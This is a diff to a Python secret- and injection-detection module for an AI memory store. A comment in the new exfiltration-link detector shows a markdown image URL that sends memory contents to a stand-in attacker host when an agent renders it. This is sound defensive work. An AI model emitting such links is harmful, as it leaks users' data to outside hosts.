@@ -5,13 +5,21 @@ come from python-stdnum, and detect-secrets only runs on text that carries a tok
 string. Every detector works on the NFKC-folded text, so full-width digits and
 punctuation (１２３, ：) are caught; spans therefore index the folded text, and `redact`
 returns the folded text with each secret/ID/card span replaced by a marker.
+
+Every detector but the transient one also reads the text unmasked (app.memory.unmask:
+invisible characters, look-alikes, spaced letters, comments, entities, percent, escapes,
+base64, hex); a hit there is reported at the original span it came from, so redaction
+removes, e.g., the whole base64 run that decoded to a password. Digit groups split by
+other separators (4111.1111.1111.1111) are folded here, where the checksum decides.
 """
 
 from __future__ import annotations
 
+import base64
+import binascii
 import functools
 import re
-from collections.abc import Iterable
+from collections.abc import Callable, Iterable
 from dataclasses import dataclass
 from typing import Any
 
@@ -20,6 +28,7 @@ from stdnum.cn import ric
 from stdnum.exceptions import ValidationError as StdnumError
 from stdnum.us import ssn
 
+from app.memory import unmask
 from app.memory.model import Reason
 from app.memory.text import nfkc, split_sentences
 
@@ -44,54 +53,221 @@ def _rx(pattern: str, flags: int = 0) -> re.Pattern[str]:
     return re.compile(pattern, flags)
 
 
+Span = tuple[int, int, str]  # start, end (in the folded text), detail
+
+
+def _on_views(folded: str, spans_of: Callable[[str], list[Span]]) -> list[Span]:
+    """A detector's spans in the folded text and in its unmasked view, all in the folded
+    text's positions: a hit found only once decoded covers the whole span it came from."""
+    spans = spans_of(folded)
+    for view in unmask.views(folded):
+        for start, end, detail in spans_of(view.text):
+            spans.append((*view.to_base(start, end), detail))
+    return spans
+
+
 # ---------------------------------------------------------------------------------------
 # Secrets
 # ---------------------------------------------------------------------------------------
 
-# (detail, pattern, group holding the secret: 0 = whole match). Provider formats are
-# exact prefixes, so they are precise without any entropy heuristics.
-_SECRET_PATTERNS: tuple[tuple[str, re.Pattern[str], int], ...] = (
-    ("private_key", _rx(r"-----BEGIN[A-Z ]*PRIVATE KEY(?: BLOCK)?-----"
-                        r"(?:.*?-----END[A-Z ]*PRIVATE KEY(?: BLOCK)?-----|.*)", re.S), 0),
-    ("openai_key", _rx(r"(?<![\w-])sk-(?:proj-|svcacct-|admin-|ant-)?[A-Za-z0-9_-]{20,}"), 0),
-    ("aws_access_key", _rx(r"(?<![A-Z0-9])(?:AKIA|ASIA|AGPA|AIDA|AROA|ANPA|ANVA|AIPA)"
-                           r"[A-Z0-9]{16}(?![A-Z0-9])"), 0),
-    ("github_token", _rx(r"(?<!\w)(?:gh[pousr]_[A-Za-z0-9]{30,}|github_pat_[A-Za-z0-9_]{22,})"),
-     0),
-    ("gitlab_token", _rx(r"(?<!\w)glpat-[A-Za-z0-9_-]{20,}"), 0),
-    ("slack_token", _rx(r"(?<!\w)xox[abposr]-[A-Za-z0-9-]{10,}"), 0),
-    ("slack_webhook", _rx(r"https://hooks\.slack\.com/services/[A-Za-z0-9/]+"), 0),
-    ("google_api_key", _rx(r"(?<!\w)AIza[0-9A-Za-z_-]{30,}"), 0),
-    ("stripe_key", _rx(r"(?<!\w)(?:sk|rk|pk)_(?:live|test)_[0-9A-Za-z]{16,}"), 0),
-    ("jwt", _rx(r"(?<![\w-])eyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]*"), 0),
+# Provider formats are exact prefixes, so they are precise without any entropy
+# heuristics; the keyword forms ("password is …") drop values that describe the secret
+# instead of being it, and their checks keep the looser forms to token-like values.
+_Check = Callable[[re.Match[str], str], bool]  # (match, the text searched) -> keep it
+
+# A value as written after "password is": quoted (spaces allowed) or one token.
+_VALUE = (r"(?P<v>\"[^\"\n]{1,64}\"|'[^'\n]{1,64}'|“[^”\n]{1,64}”|`[^`\n]{1,64}`"
+          r"|[^\s\"'`,;]{3,})")
+# "password for my bank is", "password: ", "password is now", "password was changed to"
+_EN_VERB = (r"(?:\s+(?:for|of|on|at|to)\s+[^\n.!?:=]{1,30}?)?"
+            r"(?:\s+(?:is|was|are|were|=|has\s+been|will\s+be|became|(?:is\s+|was\s+)?(?:now\s+)?"
+            r"(?:set|changed|reset|updated)\s+to)(?:\s+(?:now|still|just|currently|simply|"
+            r"actually|always))?\s*:?|\s*[:=])\s*")
+_ZH_VALUE_STOP = (r"(?!多少|什么|啥|几|哪|不是|不对|不能|不要|错|对的|正确|必须|需要"
+                  r"|空的?(?:$|[，。,.])|一样|相同|怎么|如何)")
+_ZH_VALUE = (r"[\"'“”「『]?(?P<v>" + _ZH_VALUE_STOP
+             + r"[^\s\"'“”「」『』,，。;；！？!?、]{2,})")
+_ZH_VERB = (r"\s*(?:(?:就|还|也|都|一直|现在|目前|已经|依然|仍然|其实|应该)?"
+            r"(?:是|为|用的是|设的是|设置?成了?|设为|设置为|改成了?|改为|换成了?|变成了?)|[:=])\s*")
+_AWS_CONTEXT = _rx(r"\baws\b|amazon|secret|aws_|_aws", _I)
+_AUTH_CONTEXT = _rx(r"authori[sz]ation|\bauth\b|header|curl|-H\s", _I)
+# One 2FA recovery / one-time code: "8f3k-2m9d", "123456", "A1B2C3D4" (a digit in it).
+_CODE = r"(?=[A-Za-z0-9-]*[0-9])[A-Za-z0-9]{4,12}(?:-[A-Za-z0-9]{2,12}){0,3}(?![A-Za-z0-9])"
+
+
+@dataclass(frozen=True)
+class _Secret:
+    """One secret format: `detail` names it in findings (never the matched text)."""
+
+    detail: str
+    pattern: re.Pattern[str]
+    group: int = 0  # the group holding the secret: 0 = the whole match
+    check: _Check | None = None
+    # lowercase strings one of which any match contains: a text without them skips the
+    # pattern (a leading lookbehind makes a regex scan every position, ~20 µs per KB)
+    triggers: tuple[str, ...] = ()
+
+
+_PASSWORD_EN = ("password", "passwd", "passcode", "passphrase", "pwd")
+_CREDENTIAL_WORDS = ("key", "secret", "token", "bearer", "pin")
+_SECRET_PATTERNS: tuple[_Secret, ...] = (
+    _Secret("private_key", _rx(r"-----BEGIN[A-Z ]*PRIVATE KEY(?: BLOCK)?-----"
+                               r"(?:.*?-----END[A-Z ]*PRIVATE KEY(?: BLOCK)?-----|.*)", re.S)),
+    _Secret("openai_key", _rx(r"(?<![\w-])sk-(?:proj-|svcacct-|admin-|ant-)?[A-Za-z0-9_-]{20,}"),
+            triggers=("sk-",)),
+    _Secret("aws_access_key", _rx(r"(?<![A-Z0-9])(?:AKIA|ASIA|AGPA|AIDA|AROA|ANPA|ANVA|AIPA)"
+                                  r"[A-Z0-9]{16}(?![A-Z0-9])"),
+            triggers=("akia", "asia", "agpa", "aida", "aroa", "anpa", "anva", "aipa")),
+    # the 40-character secret access key, near "aws" / "secret"
+    _Secret("aws_secret_key",
+            _rx(r"(?<![A-Za-z0-9/+])(?P<v>[A-Za-z0-9/+]{40})(?![A-Za-z0-9/+=])"), 1,
+            lambda m, text: _aws_like(m.group("v"))
+            and _AWS_CONTEXT.search(text, max(0, m.start() - 80), m.start()) is not None,
+            ("aws", "amazon", "secret")),
+    _Secret("github_token",
+            _rx(r"(?<!\w)(?:gh[pousr]_[A-Za-z0-9]{30,}|github_pat_[A-Za-z0-9_]{22,})"),
+            triggers=("ghp_", "gho_", "ghu_", "ghs_", "ghr_", "github_pat_")),
+    _Secret("gitlab_token", _rx(r"(?<!\w)glpat-[A-Za-z0-9_-]{20,}"), triggers=("glpat-",)),
+    _Secret("slack_token", _rx(r"(?<!\w)xox[abposr]-[A-Za-z0-9-]{10,}"), triggers=("xox",)),
+    _Secret("slack_webhook", _rx(r"https://hooks\.slack\.com/services/[A-Za-z0-9/]+")),
+    _Secret("google_api_key", _rx(r"(?<!\w)AIza[0-9A-Za-z_-]{30,}"), triggers=("aiza",)),
+    _Secret("stripe_key", _rx(r"(?<!\w)(?:sk|rk|pk)_(?:live|test)_[0-9A-Za-z]{16,}"),
+            triggers=("_live_", "_test_")),
+    _Secret("jwt", _rx(r"(?<![\w-])eyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]*"),
+            triggers=("eyj",)),
     # scheme://user:password@host — the user part may be empty (redis://:pass@host)
-    ("connection_string", _rx(r"(?<![\w+.-])[a-z][a-z0-9+.-]{1,20}://[^\s:/@]*:[^\s@/]+@[^\s,;]+",
-                              _I), 0),
-    # "password: x", "my password is x", "pwd=x", "api_key = x"
-    ("password", _rx(r"\b(?:password|passwd|passcode|passphrase|pwd)\b"
-                     r"(?:\s+(?:is|was|=)|\s*[:=])\s*[\"'`]?(?P<v>[^\s\"'`,;]{3,})", _I), 1),
-    ("credential_assignment", _rx(
-        r"\b(?:api[_ -]?key|apikey|secret[_ -]?key|access[_ -]?key(?:[_ -]?id)?|client[_ -]?secret|"
-        r"auth[_ -]?token|access[_ -]?token|refresh[_ -]?token|bearer|private[_ -]?key|token|"
-        r"secret|pin(?:[_ -]?code)?)\b"
-        r"\s*[:=]\s*[\"'`]?(?P<v>[^\s\"'`,;]{4,})", _I), 1),
-    ("bearer_token", _rx(r"\bBearer\s+(?P<v>[A-Za-z0-9._~+/-]{16,}=*)"), 1),
-    # 我的密码是 hunter2 / 密码：hunter2 / 支付密码为 123456 (full-width colon is folded)
-    ("password", _rx(r"(?:密码|口令|密钥|秘钥|私钥|令牌|pin码|PIN码)\s*(?:是|为|:|=)\s*[\"'“”]?"
-                     r"(?P<v>(?!多少|什么|啥|几|哪)[^\s\"'“”,，。;；]{3,})"), 1),
+    _Secret("connection_string",
+            _rx(r"(?<![\w+.-])[a-z][a-z0-9+.-]{1,20}://[^\s:/@]*:[^\s@/]+@[^\s,;]+", _I),
+            triggers=("://",)),
+    # "password: x", "my password is x", "my gmail password is now 'x y'", "db_password=x"
+    _Secret("password", _rx(r"(?<![A-Za-z0-9])(?:password|passwd|passcode|passphrase|pwd)"
+                            r"(?![A-Za-z0-9])" + _EN_VERB + _VALUE, _I), 1,
+            lambda m, _: _is_value(m.group("v")), _PASSWORD_EN),
+    # "I changed my gmail password to x"
+    _Secret("password", _rx(r"\b(?:changed|set|reset|updated|switched)\s+"
+                            r"(?:(?:my|the|our|his|her|their)\s+)?(?:[\w-]+\s+)?"
+                            r"(?:password|passwd|passcode|passphrase|pwd)\s+to\s*:?\s*"
+                            + _VALUE, _I), 1, lambda m, _: _is_value(m.group("v")), _PASSWORD_EN),
+    # shorter words that mean other things too ("pin the tab"): values with a digit only
+    _Secret("password", _rx(r"(?<![A-Za-z0-9])(?:pw|pin(?:\s*code)?)(?![A-Za-z0-9])" + _EN_VERB
+                            + _VALUE, _I), 1,
+            lambda m, _: _is_value(m.group("v")) and _has_digit(m.group("v")), ("pw", "pin")),
+    _Secret("credential_assignment", _rx(
+        r"(?<![A-Za-z0-9])(?:api[_ -]?key|apikey|secret[_ -]?(?:access[_ -]?)?key|"
+        r"access[_ -]?key(?:[_ -]?id)?|client[_ -]?secret|auth[_ -]?token|access[_ -]?token|"
+        r"refresh[_ -]?token|bearer|private[_ -]?key|token|secret|pin(?:[_ -]?code)?|"
+        r"signing[_ -]?key|encryption[_ -]?key|master[_ -]?key|webhook[_ -]?secret)"
+        r"(?![A-Za-z0-9])\s*[:=]\s*[\"'`]?(?P<v>[^\s\"'`,;]{4,})", _I), 1,
+        lambda m, _: _is_value(m.group("v")), _CREDENTIAL_WORDS),
+    # prose: "my AWS secret key is …", "the api key for staging is …" (token-like values)
+    _Secret("credential_assignment", _rx(
+        r"(?<![A-Za-z0-9])(?:api[_ -]?key|secret[_ -]?(?:access[_ -]?)?key|access[_ -]?key|"
+        r"client[_ -]?secret|auth[_ -]?token|access[_ -]?token|refresh[_ -]?token|"
+        r"private[_ -]?key|signing[_ -]?key|encryption[_ -]?key|master[_ -]?key|token)s?"
+        + _EN_VERB + r"[\"'`]?(?P<v>[^\s\"'`,;]{8,})", _I), 1,
+        lambda m, _: _is_value(m.group("v")) and _mixed_token(m.group("v")), ("key", "token",
+                                                                              "secret")),
+    _Secret("bearer_token", _rx(r"\bBearer\s+(?P<v>[A-Za-z0-9._~+/-]{16,}=*)"), 1,
+            triggers=("bearer",)),
+    # Authorization: Basic dXNlcjpwYXNz (the base64 of user:password), any other scheme
+    _Secret("basic_auth", _rx(r"\bBasic\s+(?P<v>[A-Za-z0-9+/]{6,}={0,2})(?![A-Za-z0-9+/=])", _I),
+            1, lambda m, text: _basic_credentials(m.group("v"))
+            or (_mixed_token(m.group("v"))
+                and _AUTH_CONTEXT.search(text, max(0, m.start() - 40), m.start()) is not None),
+            ("basic",)),
+    _Secret("authorization_header", _rx(
+        r"\b(?:proxy-)?authori[sz]ation\s*[:=]\s*(?:[A-Za-z-]+\s+)?"
+        r"(?P<v>[A-Za-z0-9._~+/-]{8,}=*)", _I), 1,
+        lambda m, _: _is_value(m.group("v")) and _mixed_token(m.group("v")),
+        ("authorization", "authorisation")),
+    _Secret("basic_auth",
+            _rx(r"(?<![\w-])(?:-u|--user)\s+[\"']?[^\s:\"']{1,64}:(?P<v>[^\s\"']{3,})"), 1,
+            triggers=("-u", "--user")),
+    # 2FA recovery / backup codes, one-time codes: the whole list
+    _Secret("recovery_code", _rx(
+        r"(?:(?<![A-Za-z0-9])(?:recovery|backup|2fa|two[- ]factor|mfa|otp|one[- ]time|"
+        r"emergency|scratch|verification)[_ -]?(?:codes?|keys?|pins?|passwords?|passcodes?|"
+        r"tokens?)(?![A-Za-z0-9])|恢复码|恢复代码|备用码|备份码|救援码|紧急码|验证码|动态码|"
+        r"一次性密码|校验码)[^A-Za-z0-9\n]{0,12}?(?:(?:are|is|were|was|是|为|如下)\s*[:：]?\s*)?"
+        r"(?P<v>" + _CODE + r"(?:(?:\s*[,，;；、/|]\s*|\s+(?:and\s+|or\s+|和|及)?)" + _CODE
+        + r")*)", _I), 1,
+        triggers=("recovery", "backup", "2fa", "factor", "mfa", "otp", "one", "emergency",
+                  "scratch", "verification", "码", "一次性密码")),
+    # 我的密码是 hunter2 / 密码：hunter2 / 支付密码为 123456 / 密码改成了 abc12345
+    _Secret("password", _rx(r"(?:密码|口令|密钥|秘钥|私钥|令牌|暗号|pin码|PIN码)" + _ZH_VERB
+                            + _ZH_VALUE), 1, lambda m, _: _is_value(m.group("v"))),
+    # 密码 hunter2 (no verb): token-like values with a digit only
+    _Secret("password", _rx(r"(?:密码|口令|pin码|PIN码)\s+(?P<v>[A-Za-z0-9!@#$%^&*._+-]{4,})"
+                            r"(?![A-Za-z0-9])"), 1, lambda m, _: _has_digit(m.group("v"))),
 )
 
 # English words after "password is" that describe the password instead of being it.
 _PASSWORD_WORDS = frozenset(
     "a an the too not wrong incorrect correct required needed weak strong expired invalid "
     "missing empty reset changed same different long short case-sensitive stored saved "
-    "visible hidden secure insecure".split()
+    "visible hidden secure insecure "
+    "in on at with for from of by to into inside my your his her their our its this that "
+    "these those it there here somewhere stored kept written encrypted hashed secret "
+    "private safe known unknown set unset optional mandatory necessary enabled disabled "
+    "locked unlocked blank null none n/a tbd something anything nothing what which who how "
+    "why when where very really so quite also usually always never sometimes often easy "
+    "hard simple complex complicated obvious good bad being going supposed only just still "
+    "now managed rotated generated provided given shared sent "
+    "mine yours ours theirs".split()
 )
+_TRAILING = ".!?)]}>:：。！？）"
+
+
+def _bare(value: str) -> str:
+    value = value.strip()
+    if len(value) >= 2 and value[0] in "\"'`“「『" and value[-1] in "\"'`”」』":
+        value = value[1:-1]
+    return value.rstrip(_TRAILING)
+
+
+def _is_value(value: str) -> bool:
+    """A secret value, not a word about it ("password is required")."""
+    bare = _bare(value)
+    return bool(bare) and bare.lower() not in _PASSWORD_WORDS
+
+
+def _has_digit(value: str) -> bool:
+    return any(c.isdigit() for c in value)
+
+
+def _mixed_token(value: str) -> bool:
+    """Looks generated: a digit, or upper case after the first letter mixed with lower."""
+    bare = _bare(value)
+    if _has_digit(bare):
+        return True
+    inner = bare[1:]
+    return any(c.isupper() for c in inner) and any(c.islower() for c in bare)
+
+
+def _aws_like(value: str) -> bool:
+    """A 40-character AWS secret access key: mixed case, not a hex digest (a git SHA)."""
+    return (any(c.isupper() for c in value) and any(c.islower() for c in value)
+            and _HEX_ONLY.fullmatch(value) is None)
+
+
+_HEX_ONLY = _rx(r"[0-9A-Fa-f]+")
+
+
+def _basic_credentials(encoded: str) -> bool:
+    """The base64 of "user:password"."""
+    try:
+        decoded = base64.b64decode(encoded + "=" * (-len(encoded) % 4), validate=True)
+        text = decoded.decode("utf-8")
+    except (binascii.Error, ValueError):
+        return False
+    return ":" in text and text.isprintable()
+
 
 # detect-secrets complements the regexes for vendors we do not list. Its entropy plugins
 # flag ordinary words ("markdown", "ABC123", "Go"), so only the pattern plugins run, and
-# only on text with a token-like run (≥ 16 word chars) or an assignment — the common
-# sentence never pays its ~50 µs.
+# only on text with a token-like run (≥ 16 word chars, with a digit, a capital or a
+# base64 sign: not a snake_case predicate) or an assignment — the common sentence never
+# pays its ~50 µs.
 _DS_PLUGINS = (
     "ArtifactoryDetector", "AzureStorageKeyDetector", "BasicAuthDetector", "CloudantDetector",
     "DiscordBotTokenDetector", "IbmCloudIamDetector", "IbmCosHmacDetector",
@@ -101,7 +277,8 @@ _DS_PLUGINS = (
     "JwtTokenDetector", "PrivateKeyDetector", "SlackDetector", "StripeDetector",
     "OpenAIDetector", "GitLabTokenDetector",
 )
-_DS_PREFILTER = _rx(r"[A-Za-z0-9_+/=-]{16,}|[=:]\s*[\"']")
+_DS_PREFILTER = _rx(r"(?<![A-Za-z0-9_+/=-])(?=[A-Za-z0-9_+/=-]{16})[a-z_-]*[A-Z0-9+/=]"
+                    r"|[=:]\s*[\"']")
 _TOKEN_AROUND = _rx(r"[^\s\"'`,;，。]+")
 
 
@@ -136,19 +313,32 @@ def _detect_secrets_spans(text: str) -> list[tuple[int, int, str]]:
     return spans
 
 
-def find_secrets(text: str) -> list[Finding]:
-    """API keys, tokens, JWTs, private keys, passwords, credentials in connection strings."""
-    folded = nfkc(text)
-    spans: list[tuple[int, int, str]] = []
-    for detail, pattern, group in _SECRET_PATTERNS:
-        for m in pattern.finditer(folded):
-            if group and m.group("v").lower() in _PASSWORD_WORDS:
+_ALL_TRIGGERS = frozenset(t for p in _SECRET_PATTERNS for t in p.triggers)
+
+
+def _secret_spans(folded: str) -> list[Span]:
+    spans: list[Span] = []
+    lowered = folded.lower()
+    present = {t for t in _ALL_TRIGGERS if t in lowered}
+    for p in _SECRET_PATTERNS:
+        if p.triggers and present.isdisjoint(p.triggers):
+            continue
+        for m in p.pattern.finditer(folded):
+            if p.check is not None and not p.check(m, folded):
                 continue
-            start, end = m.span(group)
-            spans.append((start, end, detail))
+            start, end = m.span(p.group)
+            spans.append((start, end, p.detail))
     spans.extend(_detect_secrets_spans(folded))
     spans.extend(_placeholders(folded, "secret"))
-    return [Finding("secret", Reason.SECRET_DETECTED, s, e, d) for s, e, d in _merge(spans)]
+    return spans
+
+
+def find_secrets(text: str) -> list[Finding]:
+    """API keys, tokens, JWTs, private keys, passwords, credentials in connection strings,
+    Basic auth, recovery codes; in the text as written and unmasked (app.memory.unmask)."""
+    folded = nfkc(text)
+    return [Finding("secret", Reason.SECRET_DETECTED, s, e, d)
+            for s, e, d in _merge(_on_views(folded, _secret_spans))]
 
 
 # ---------------------------------------------------------------------------------------
@@ -204,13 +394,49 @@ def _ric_checksum_valid(number: str) -> bool:
     return True
 
 
-def find_ids(text: str) -> list[Finding]:
-    """Checksum-valid CN resident IDs, valid US SSNs, passport numbers named as such."""
-    folded = nfkc(text)
-    spans: list[tuple[int, int, str]] = []
+# Digits in groups split by other separators, or by several (4111.1111.1111.1111,
+# 110101 19900307 7714, 4111 - 1111 - 1111 - 1111): folded here, where the checksum
+# decides. Dates, versions, phone and order numbers stay short of a card or an ID.
+_DIGIT_GROUPS = _rx(r"(?<![0-9A-Za-z])[0-9]{1,19}(?:[ .\-_/·•|]{1,3}[0-9]{1,19})+"
+                    r"(?:[Xx](?![0-9A-Za-z]))?(?![0-9])")
+_GROUP = _rx(r"[0-9]+[Xx]?")
+_MAX_CARD = 19
+_MAX_WINDOW_GROUPS = 24
+
+
+def _grouped_numbers(folded: str) -> list[tuple[int, int, str]]:
+    """Grouped digit runs as (start, end, digits): the whole run, or, for a run longer
+    than any card (of at most 24 groups), each window of consecutive groups that could
+    be one."""
+    out: list[tuple[int, int, str]] = []
+    for m in _DIGIT_GROUPS.finditer(folded):
+        groups = [(m.start() + g.start(), m.start() + g.end(), g.group())
+                  for g in _GROUP.finditer(m.group())]
+        digits = "".join(g[2] for g in groups)
+        if len(digits) <= _MAX_CARD:
+            out.append((m.start(), m.end(), digits))
+            continue
+        if len(groups) > _MAX_WINDOW_GROUPS:
+            continue  # a table of numbers, not a card written in groups
+        for i in range(len(groups)):
+            acc = groups[i][2]
+            for j in range(i + 1, len(groups)):
+                acc += groups[j][2]
+                if len(acc) > _MAX_CARD:
+                    break
+                if len(acc) >= 13:
+                    out.append((groups[i][0], groups[j][1], acc))
+    return out
+
+
+def _id_spans(folded: str) -> list[Span]:
+    spans: list[Span] = []
     for m in _CN_RIC.finditer(folded):
         if _ric_checksum_valid(m.group()):
             spans.append((*m.span(), "cn_ric"))
+    for start, end, digits in _grouped_numbers(folded):
+        if _CN_RIC.fullmatch(digits) and _ric_checksum_valid(digits):
+            spans.append((start, end, "cn_ric"))
     for m in _SSN_FORMATTED.finditer(folded):
         if ssn.is_valid(m.group()):
             spans.append((*m.span(), "us_ssn"))
@@ -220,24 +446,36 @@ def find_ids(text: str) -> list[Finding]:
     for m in _PASSPORT.finditer(folded):
         spans.append((*m.span("v"), "passport"))
     spans.extend(_placeholders(folded, "id"))
-    return [Finding("government_id", Reason.GOVERNMENT_ID, s, e, d) for s, e, d in _merge(spans)]
+    return spans
+
+
+def find_ids(text: str) -> list[Finding]:
+    """Checksum-valid CN resident IDs, valid US SSNs, passport numbers named as such."""
+    folded = nfkc(text)
+    return [Finding("government_id", Reason.GOVERNMENT_ID, s, e, d)
+            for s, e, d in _merge(_on_views(folded, _id_spans))]
+
+
+def _card_spans(folded: str) -> list[Span]:
+    has_context = _CARD_CONTEXT.search(folded) is not None
+    ids = [(s, e) for s, e, _ in _id_spans(folded)]
+    numbers = [(m.start(), m.end(), re.sub(r"[ -]", "", m.group())) for m in _CARD.finditer(folded)]
+    numbers.extend(n for n in _grouped_numbers(folded) if 13 <= len(n[2]) and n[2].isdigit())
+    spans: list[Span] = []
+    for start, end, digits in numbers:
+        if any(s <= start < e for s, e in ids):
+            continue  # an 18-digit resident ID may pass Luhn too: it is an ID, not a card
+        if luhn.is_valid(digits) and (has_context or _card_issuer_like(digits)):
+            spans.append((start, end, "luhn"))
+    spans.extend(_placeholders(folded, "card"))
+    return spans
 
 
 def find_cards(text: str) -> list[Finding]:
     """Luhn-valid 13–19 digit card numbers (issuer prefix, or a card word nearby)."""
     folded = nfkc(text)
-    has_context = _CARD_CONTEXT.search(folded) is not None
-    ids = [(f.start, f.end) for f in find_ids(folded)]
-    found: list[Finding] = []
-    for m in _CARD.finditer(folded):
-        digits = re.sub(r"[ -]", "", m.group())
-        if any(s <= m.start() < e for s, e in ids):
-            continue  # an 18-digit resident ID may pass Luhn too: it is an ID, not a card
-        if luhn.is_valid(digits) and (has_context or _card_issuer_like(digits)):
-            found.append(Finding("payment_card", Reason.PAYMENT_CARD, m.start(), m.end(), "luhn"))
-    found.extend(Finding("payment_card", Reason.PAYMENT_CARD, s, e, d)
-                 for s, e, d in _placeholders(folded, "card"))
-    return found
+    return [Finding("payment_card", Reason.PAYMENT_CARD, s, e, d)
+            for s, e, d in _merge(_on_views(folded, _card_spans))]
 
 
 # ---------------------------------------------------------------------------------------
@@ -308,14 +546,55 @@ _INJECTION_PATTERNS: tuple[tuple[str, re.Pattern[str]], ...] = (
 )
 
 
+# Markdown images and links, HTML images, whose URL carries data out: an agent that
+# renders `![x](https://evil.example/?q={memory})` sends what it fills in to that host
+# (an image is fetched without a click).
+_MD_URL = _rx(r"(?P<img>!?)\[[^\]\n]{0,200}\]\(\s*<?(?P<url>(?:https?:)?//[^\s)]+)", _I)
+_HTML_URL = _rx(r"<(?P<img>img|image|iframe|script|source|video|audio|link|a)\b[^>]{0,200}?"
+                r"\b(?:src|href|srcset|data)\s*=\s*[\"']?(?P<url>(?:https?:)?//[^\s\"'>]+)", _I)
+_URL_PLACEHOLDER = _rx(r"\{[^}]{0,60}\}|\$\{?[A-Za-z_]|<[^>]{1,60}>|%7[Bb]|\[[A-Za-z_ ]{2,40}\]"
+                       r"|\.\.\.|…|(?-i:\b[A-Z]{2,}_[A-Z_]{2,}\b)|\bINSERT\b", _I)
+_DATA_PARAM = (r"[?&;](?:q|d|data|secret|token|key|memory|memories|m|payload|p|info|msg|message|"
+               r"content|text|prompt|history|chat|conversation|context|c|leak|exfil|x|s|u|user|"
+               r"email|pw|password|creds?)=")
+_IMAGE_DATA = _rx(_DATA_PARAM + r"|=[A-Za-z0-9+/_%.-]{24,}", _I)
+_LINK_DATA = _rx(_DATA_PARAM + r"[A-Za-z0-9+/_%.=-]{16,}", _I)
+
+
+def _exfiltration_spans(folded: str) -> list[Span]:
+    if "//" not in folded:
+        return []
+    spans: list[Span] = []
+    for pattern in (_MD_URL, _HTML_URL):
+        for m in pattern.finditer(folded):
+            url = m.group("url")
+            image = m.group("img").lower() not in ("", "a")
+            query = url[url.find("?"):] if "?" in url else ""
+            if _URL_PLACEHOLDER.search(url) or (
+                    query and (_IMAGE_DATA if image else _LINK_DATA).search(query)):
+                spans.append((*m.span(), "exfiltration_link"))
+    return spans
+
+
+def _injection_spans(folded: str) -> list[Span]:
+    spans: list[Span] = [(*m.span(), detail) for detail, pattern in _INJECTION_PATTERNS
+                         for m in pattern.finditer(folded)]
+    spans.extend(_exfiltration_spans(folded))
+    return spans
+
+
+def _findings(kind: str, reason: Reason | None, spans: Iterable[Span]) -> list[Finding]:
+    """One finding per distinct (span, detail), in order of position."""
+    return [Finding(kind, reason, s, e, d)
+            for s, e, d in sorted(set(spans), key=lambda x: (x[0], x[1], x[2]))]
+
+
 def find_injection(text: str) -> list[Finding]:
-    """Attempts to change rules, permissions or instructions (002 §9: 记忆投毒)."""
+    """Attempts to change rules, permissions or instructions (002 §9: 记忆投毒), and
+    links that would carry data to another host."""
     folded = nfkc(text)
-    return [
-        Finding("prompt_injection", Reason.PROMPT_INJECTION, m.start(), m.end(), detail)
-        for detail, pattern in _INJECTION_PATTERNS
-        for m in pattern.finditer(folded)
-    ]
+    return _findings("prompt_injection", Reason.PROMPT_INJECTION,
+                     _on_views(folded, _injection_spans))
 
 
 # ---------------------------------------------------------------------------------------
@@ -388,15 +667,16 @@ def _about_the_user(detail: str, span: str) -> bool:
     return m is not None and _OWN_DATA.search(span[m.end():]) is not None
 
 
+def _third_party_spans(folded: str) -> list[Span]:
+    return [(*m.span(), detail) for detail, pattern in _THIRD_PARTY_PATTERNS
+            for m in pattern.finditer(folded) if not _about_the_user(detail, m.group(0))]
+
+
 def find_third_party_pii(text: str) -> list[Finding]:
     """Personal data (contact, address, health, IDs) about someone other than the user."""
     folded = nfkc(text)
-    return [
-        Finding("third_party_pii", Reason.THIRD_PARTY_PII, m.start(), m.end(), detail)
-        for detail, pattern in _THIRD_PARTY_PATTERNS
-        for m in pattern.finditer(folded)
-        if not _about_the_user(detail, m.group(0))
-    ]
+    return _findings("third_party_pii", Reason.THIRD_PARTY_PII,
+                     _on_views(folded, _third_party_spans))
 
 
 def find_personal(text: str) -> list[Finding]:
@@ -457,20 +737,27 @@ _SENSITIVE: dict[str, re.Pattern[str]] = {
 }
 
 
-def sensitive_categories(text: str) -> list[str]:
-    """The sensitive categories the text touches, in catalogue order (e.g. ['health'])."""
-    folded = nfkc(text)
-    return [name for name, pattern in _SENSITIVE.items() if pattern.search(folded)]
-
-
-def find_sensitive(text: str) -> list[Finding]:
-    folded = nfkc(text)
-    found: list[Finding] = []
+def _sensitive_spans(folded: str) -> list[Span]:
+    spans: list[Span] = []
     for name, pattern in _SENSITIVE.items():
         m = pattern.search(folded)
         if m:
-            found.append(Finding("sensitive", Reason.SENSITIVE_NEEDS_CONSENT, *m.span(), name))
-    return found
+            spans.append((*m.span(), name))
+    return spans
+
+
+def sensitive_categories(text: str) -> list[str]:
+    """The sensitive categories the text touches, in catalogue order (e.g. ['health'])."""
+    found = {name for _, _, name in _on_views(nfkc(text), _sensitive_spans)}
+    return [name for name in _SENSITIVE if name in found]
+
+
+def find_sensitive(text: str) -> list[Finding]:
+    first: dict[str, Span] = {}
+    for span in sorted(_on_views(nfkc(text), _sensitive_spans)):
+        first.setdefault(span[2], span)
+    return [Finding("sensitive", Reason.SENSITIVE_NEEDS_CONSENT, *first[name])
+            for name in _SENSITIVE if name in first]
 
 
 # ---------------------------------------------------------------------------------------
@@ -664,7 +951,8 @@ _REDACT_LABEL = {"secret": "secret", "government_id": "id", "payment_card": "car
 
 
 def redact(text: str) -> str:
-    """The NFKC-folded text with every secret, ID and card span replaced by a marker.
+    """The NFKC-folded text with every secret, ID and card span replaced by a marker,
+    including those found only unmasked (the whole disguised span goes).
 
     What audit, logs, outbox and job payloads may keep (SPEC §12 "Secrets never rest").
     """
